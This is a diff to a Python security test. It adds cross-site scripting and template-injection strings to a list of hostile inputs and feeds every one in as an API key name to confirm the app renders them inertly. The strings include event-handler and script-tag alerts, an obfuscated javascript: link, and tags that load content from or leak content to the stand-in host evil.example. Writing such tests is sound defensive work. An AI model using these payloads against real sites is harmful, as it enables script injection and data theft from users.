@@ -108,6 +108,15 @@ def test_hostile_text_of_tenants_and_models_opens_nothing_and_asks_for_nothing(l
         "' onmouseover=alert(1) x='",
         '" autofocus onfocus=alert(1) x="',
         "\u202egnp.exe",
+        "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
+        "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+        "<img src=https://evil.example/p?q=",
+        "<details open ontoggle=alert(1)>x</details>",
+        "<body onload=alert(1)>",
+        "<math><mtext></mtext><script>alert(1)</script></math>",
+        "<object data=https://evil.example></object><embed src=https://evil.example>",
+        "<template><script>alert(1)</script></template>",
+        "</script><script>alert(1)</script>",
     ]
     attacks = [
         each
@@ -125,7 +134,7 @@ def test_hostile_text_of_tenants_and_models_opens_nothing_and_asks_for_nothing(l
     status, _, job = live.request("POST", "/jobs", body)
     assert status == 202, job
     live.wait_for(job["event_id"], "COMPLETED")
-    for attack in attacks[:8]:
+    for attack in attacks:
         live.request("POST", "/keys", {"name": attack[:100], "scopes": ["jobs:read"]})
     page = staff("operator")
     tenant = live.rows("SELECT id FROM tenants_tenant WHERE slug = 'demo'")[0]["id"]
